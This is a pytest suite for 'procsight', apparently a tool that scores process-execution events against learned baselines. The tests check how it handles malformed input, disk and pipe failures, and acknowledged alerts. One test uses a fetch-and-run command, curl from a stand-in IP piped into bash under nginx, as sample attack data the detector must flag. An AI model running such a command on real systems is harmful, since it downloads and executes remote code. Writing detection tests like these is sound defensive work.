"""`procsight score` end to end, as a user runs it (the installed console script)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import lancedb
import pytest

from scoring.baseline import REGISTRY_TABLE, table_name
from scoring.config import EngineConfig
from testing import EVAL_DIR, EVAL_MISSING, NoSmallFileSystem, fill, small_file_system

PROCSIGHT = shutil.which("procsight", path=str(Path(sys.executable).parent))


def _run(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    assert PROCSIGHT, "procsight console script not installed in this environment"
    return subprocess.run([PROCSIGHT, *args], input=stdin, capture_output=True, text=True, timeout=120)


def _line(name: str, args: list[str], **extra: object) -> str:
    return json.dumps({"process.executable.name": name, "process.command_args": args,
                       "process.command_line": " ".join(args), "process.parent.executable.name": "bash",
                       "process.user.id": 0, **extra})


def test_bad_lines_are_reported_with_line_numbers_and_skipped(tmp_path):
    source = tmp_path / "trace.jsonl"
    source.write_text("\n".join([
        _line("ls", ["ls", "-la"]),
        "{not json",
        json.dumps({"process.pid": 5}),
        json.dumps(["a", "list"]),
        _line("cat", ["cat", "/etc/hosts"]),
    ]) + "\n")
    result = _run("score", "--baselines", str(tmp_path / "b"), str(source))
    assert result.returncode == 0, result.stderr
    out = [json.loads(line) for line in result.stdout.splitlines()]
    assert [o["process.executable.name"] for o in out] == ["ls", "cat"]
    for key in ("anomaly_score", "anomaly_severity", "anomaly_reasons", "anomaly_nearest", "anomaly_model"):
        assert key in out[0]
    assert f"{source}:2: skipped" in result.stderr
    assert f"{source}:3: skipped" in result.stderr and "process.executable.name" in result.stderr
    assert f"{source}:4: skipped" in result.stderr


def test_learn_only_then_score_from_stdin(tmp_path):
    routine = "\n".join(_line("nginx", ["nginx", "-s", "reload"], **{"process.pid": p}) for p in range(50))
    learned = _run("score", "--learn-only", "--baselines", str(tmp_path), "--workload", "web", "-", stdin=routine)
    assert learned.returncode == 0 and learned.stdout == ""
    probe = _line("nginx", ["nginx", "-s", "reload"]) + "\n" + _line(
        "bash", ["bash", "-c", "curl http://198.51.100.1/x | bash"], **{"process.parent.executable.name": "nginx"})
    result = _run("score", "--baselines", str(tmp_path), "--workload", "web", "-", stdin=probe)
    routine_out, attack_out = (json.loads(line) for line in result.stdout.splitlines())
    assert routine_out["anomaly_score"] < 0.05 and routine_out["anomaly_severity"] == "none"
    assert attack_out["anomaly_severity"] == "alert"
    assert any("download piped into bash" in r for r in attack_out["anomaly_reasons"])
    assert "T1105" in attack_out["anomaly_techniques"]


@pytest.mark.skipif(not (EVAL_DIR / "benign_ci.jsonl").exists(), reason=f"NOT CHECKED: {EVAL_MISSING}")
def test_workload_from_field_scores_each_workload_against_its_own_baseline(tmp_path):
    learned = _run("score", "--learn-only", "--baselines", str(tmp_path), "--workload-from-field", "workload",
                   str(EVAL_DIR / "benign_ci.jsonl"), str(EVAL_DIR / "benign_web.jsonl"))
    assert learned.returncode == 0, learned.stderr
    tables = sorted(p.name for p in tmp_path.iterdir() if p.name != f"{REGISTRY_TABLE}.lance")
    assert len(tables) == 2 and "_ci_" in tables[0] and "_web_" in tables[1]
    scored = _run("score", "--baselines", str(tmp_path), "--workload-from-field", "workload",
                  str(EVAL_DIR / "benign_web.jsonl"))
    severities = [json.loads(line)["anomaly_severity"] for line in scored.stdout.splitlines()]
    assert len(severities) == 1673 and set(severities) == {"none"}


def test_acknowledged_alert_scores_as_normal_afterwards(tmp_path):
    routine = "\n".join(_line("nginx", ["nginx", "-s", "reload"], **{"process.pid": p}) for p in range(60))
    _run("score", "--learn-only", "--baselines", str(tmp_path), "--workload", "web", "-", stdin=routine)
    hook = _line("sh", ["sh", "-c", "/opt/deploy/hook.sh"], **{"process.parent.executable.name": "node"})
    before = json.loads(_run("score", "--baselines", str(tmp_path), "--workload", "web", "-", stdin=hook).stdout)
    assert before["anomaly_severity"] == "alert"
    acked = _run("ack", "--baselines", str(tmp_path), "--workload", "web", "-", stdin=json.dumps(before))
    assert acked.returncode == 0 and "acknowledged 1 events" in acked.stderr
    after = json.loads(_run("score", "--baselines", str(tmp_path), "--workload", "web", "-", stdin=hook).stdout)
    assert after["anomaly_severity"] == "none", after


def test_long_work_says_how_far_it_got(tmp_path, monkeypatch, caplog):
    from scoring import cli
    from testing import run_command

    monkeypatch.setattr(cli, "PROGRESS_SECONDS", 0.0)
    trace = tmp_path / "big.jsonl"
    trace.write_text("".join(_line("ls", ["ls", f"/srv/{i % 40}"]) + "\n" for i in range(2500)))
    with caplog.at_level("INFO", logger="scoring.cli"):
        assert run_command(cli.register, ["score", "--baselines", str(tmp_path / "b"), "--learn-only",
                                          str(trace)]) == 0
    progress = [r.getMessage() for r in caplog.records if "so far" in r.getMessage()]
    assert [message.split(" (")[0] for message in progress] == ["learned 1000 events so far",
                                                               "learned 2000 events so far"]


def test_a_line_of_a_million_arguments_is_scored_bounded_and_flagged(tmp_path):
    """argv of any length reaches the engine cut to the bounds every event is held to (core/event.py): a
    quadratic walk over 300,000 wrappers took minutes before."""
    source = tmp_path / "hostile.jsonl"
    args = ["sudo"] * 1_000_000 + ["id"]
    source.write_text(json.dumps({"process.executable.name": "sudo", "process.command_args": args}) + "\n"
                      + _line("ls", ["ls", "-la"]) + "\n")
    result = _run("score", "--baselines", str(tmp_path / "b"), str(source))
    assert result.returncode == 0, result.stderr
    hostile, plain = (json.loads(line) for line in result.stdout.splitlines())
    assert hostile["anomaly_severity"] in ("none", "warn", "alert") and plain["anomaly_severity"]
    assert "process.ancestors" not in hostile and len(hostile["process.command_args"]) == len(args)  # input kept


@pytest.mark.parametrize(("hostile", "reason"), [
    ('{"a": ' + "[" * 200_000 + "]" * 200_000 + "}", "JSON nested deeper"),
    ('{"process.executable.name": "ls", "process.command_line": "ls", "process.pid": ' + "9" * 5000 + "}",
     "integer string conversion"),  # more digits than Python reads
], ids=["nested", "long number"])
def test_a_line_json_cannot_read_is_skipped_and_the_rest_scored(tmp_path, hostile: str, reason: str):
    source = tmp_path / "hostile.jsonl"
    source.write_text(hostile + "\n" + _line("ls", ["ls", "-la"]) + "\n")
    result = _run("score", "--baselines", str(tmp_path / "b"), str(source))
    assert result.returncode == 0, result.stderr
    assert [json.loads(line)["process.executable.name"] for line in result.stdout.splitlines()] == ["ls"]
    assert f"{source}:1: skipped: " in result.stderr and reason in result.stderr


def test_a_lone_surrogate_goes_out_escaped_and_the_lines_after_it_are_scored(tmp_path):
    """JSON may escape half of a surrogate pair (`"\\ud800"`), which UTF-8 cannot carry: writing it raised, and the
    command stopped there, its batch unwritten."""
    source = tmp_path / "surrogate.jsonl"
    source.write_text(_line("ls", ["ls", "\ud800"]) + "\n" + _line("ls", ["ls", "-la"]) + "\n")
    result = _run("score", "--baselines", str(tmp_path / "b"), str(source))
    assert result.returncode == 0, result.stderr
    odd, plain = result.stdout.splitlines()
    assert "\\ud800" in odd and json.loads(odd)["process.command_args"] == ["ls", "\ud800"]
    assert json.loads(odd)["anomaly_severity"] and json.loads(plain)["process.command_line"] == "ls -la"


@pytest.mark.parametrize(("command", "problem"), [
    (["score", "--baselines", "{tmp}/b", "{tmp}/missing.jsonl"], "{tmp}/missing.jsonl: no such file"),
    (["score", "--baselines", "{tmp}/b", "{tmp}"], "{tmp} is a directory"),
    (["score", "--baselines", "{tmp}/file", "{tmp}/trace.jsonl"], "--baselines: {tmp}/file is a file"),
    (["ack", "--workload", "w", "--baselines", "", "{tmp}/trace.jsonl"], "--baselines: is empty"),
], ids=["missing input", "directory input", "baselines a file", "baselines empty"])
def test_arguments_that_cannot_work_are_refused_before_anything_is_read(tmp_path, command: list[str],
                                                                         problem: str):
    """They ended in a traceback; an empty --baselines wrote the baselines into the working directory."""
    (tmp_path / "file").write_text("")
    (tmp_path / "trace.jsonl").write_text(_line("ls", ["ls", "-la"]) + "\n")
    result = _run(*(part.format(tmp=tmp_path) for part in command))
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr.startswith(f"procsight {command[0]}: {problem.format(tmp=tmp_path)}"), result.stderr
    assert len(result.stderr.splitlines()) == 1 and not (tmp_path / "b").exists()


def test_an_input_that_fails_while_read_ends_the_command_with_what_failed(tmp_path):
    # /proc/self/mem opens, and its first read fails (EIO), as a failing disk or network file system would.
    result = _run("score", "--baselines", str(tmp_path / "b"), "/proc/self/mem")
    assert result.returncode == 1 and result.stdout == ""
    assert result.stderr.startswith("procsight score: reading /proc/self/mem failed after 0 lines: Input/output error")


def test_a_reader_that_leaves_early_ends_the_command_quietly_and_what_was_learned_is_kept(tmp_path):
    """`procsight score big.jsonl | head` ended in a BrokenPipeError traceback."""
    trace = tmp_path / "big.jsonl"
    trace.write_text("".join(_line("ls", ["ls", f"/srv/{i % 40}"]) + "\n" for i in range(5000)))
    assert PROCSIGHT
    scoring = subprocess.Popen([PROCSIGHT, "score", "--baselines", str(tmp_path / "b"), str(trace)],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert scoring.stdout is not None and json.loads(scoring.stdout.readline())["process.executable.name"] == "ls"
    scoring.stdout.close()  # as `head -1` does
    _, errors = scoring.communicate(timeout=120)
    assert scoring.returncode == 141 and "Traceback" not in errors and "Exception ignored" not in errors, errors
    assert any(path.name.startswith("b_default_default") for path in (tmp_path / "b").iterdir())


def test_an_output_on_a_full_disk_is_reported_in_one_line(tmp_path):
    try:
        with small_file_system(tmp_path / "disk") as disk:
            fill(disk, leave=0)
            source = tmp_path / "trace.jsonl"
            source.write_text("".join(_line("ls", ["ls", f"/srv/{i}"]) + "\n" for i in range(2000)))
            with open(disk / "scored.jsonl", "w") as output:
                result = subprocess.run([PROCSIGHT, "score", "--baselines", str(tmp_path / "b"), str(source)],
                                        stdout=output, stderr=subprocess.PIPE, text=True, timeout=120, check=False)
    except NoSmallFileSystem as exc:
        pytest.skip(f"NOT CHECKED: {exc}")
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert "procsight score: cannot write the output: No space left on device" in result.stderr


@pytest.mark.parametrize("learn_only", [False, True], ids=["score", "learn-only"])
def test_baselines_on_a_full_disk_are_reported_in_one_line(tmp_path, learn_only):
    """LanceDB's 'No space left on device' came out as a traceback through the engine."""
    source = tmp_path / "trace.jsonl"
    source.write_text(_line("ls", ["ls", "-la"]) + "\n")
    try:
        with small_file_system(tmp_path / "disk") as disk:
            fill(disk, leave=0)
            result = _run("score", *(["--learn-only"] if learn_only else []), "--baselines", str(disk / "b"),
                          str(source))
    except NoSmallFileSystem as exc:
        pytest.skip(f"NOT CHECKED: {exc}")
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert f"procsight score: the baselines at {disk / 'b'} failed: " in result.stderr
    assert "No space left on device" in result.stderr


def test_input_read_through_a_pipe_is_read_once(tmp_path):
    """The check before the start does not open an input: a pipe (`<(zcat trace.gz)`) can be read only once."""
    read, write = os.pipe()
    with os.fdopen(write, "w") as writer:
        writer.write(_line("ls", ["ls", "-la"]) + "\n")
    try:
        result = subprocess.run([PROCSIGHT, "score", "--baselines", str(tmp_path / "b"), f"/dev/fd/{read}"],
                                capture_output=True, text=True, timeout=120, pass_fds=(read,))
    finally:
        os.close(read)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["process.command_line"] == "ls -la"


def test_acknowledging_many_events_writes_the_baseline_once(tmp_path):
    """Each acknowledgement written on its own made a LanceDB version each: 16 s and 12 MB for 1,000 lines."""
    lines = "\n".join(_line("worker", ["worker", f"--job-{word}"]) for word in ("alpha", "bravo", "charlie") * 100)
    acked = _run("ack", "--baselines", str(tmp_path), "--workload", "batch", "-", stdin=lines)
    assert acked.returncode == 0 and "acknowledged 300 events" in acked.stderr
    table = lancedb.connect(str(tmp_path)).open_table(table_name("default", "batch", EngineConfig.model))
    assert table.count_rows() == 3 and table.version <= 3
    after = _run("score", "--baselines", str(tmp_path), "--workload", "batch", "-",
                 stdin=_line("worker", ["worker", "--job-bravo"]))
    assert json.loads(after.stdout)["anomaly_severity"] == "none"
